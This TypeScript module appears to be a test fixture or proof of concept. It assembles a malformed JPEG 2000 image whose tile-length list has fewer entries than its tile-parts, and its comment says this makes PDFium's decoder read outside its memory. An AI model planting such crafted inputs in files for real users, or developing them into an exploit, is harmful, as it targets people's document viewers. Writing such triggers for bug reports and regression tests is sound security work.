const number = (value: number, bytes: number) =>
  Array.from({ length: bytes }, (_, index) => Math.floor(value / 256 ** (bytes - 1 - index)) % 256);
const segment = (marker: number, content: number[]) => [0xff, marker, ...number(content.length + 2, 2), ...content];

const [size, codingStyle, quantization, tileLengths, tileBegins, tileData] = [0x51, 0x52, 0x5c, 0x55, 0x90, 0x93];

/**
 * A picture in JPEG 2000, 128 x 64 shades of gray in two tiles, whose list of tile lengths has two entries for the four parts in
 * which the tiles come. PDFium's decoder believes the list and leaves its memory.
 */
export function faultyPicture(): Buffer {
  const part = (tile: number, index: number, data: number[]) => [
    ...segment(tileBegins, [...number(tile, 2), ...number(data.length + 14, 4), index, 0]),
    0xff,
    tileData,
    ...data,
  ];
  const wholeAndTile = [128, 64, 0, 0, 64, 64, 0, 0].flatMap((value) => number(value, 4));
  return Buffer.from(
    [
      [0xff, 0x4f],
      segment(size, [0, 0, ...wholeAndTile, 0, 1, 7, 1, 1]),
      segment(codingStyle, [0, 0, 0, 1, 0, 0, 4, 4, 0, 1]),
      segment(quantization, [0x40, 0x40]),
      segment(tileLengths, [0, 0x40, ...number(256, 4), ...number(256, 4)]),
      part(0, 0, [0]),
      part(0, 1, []),
      part(0, 2, []),
      part(1, 0, [0]),
      [0xff, 0xd9],
    ].flat(),
  );
}
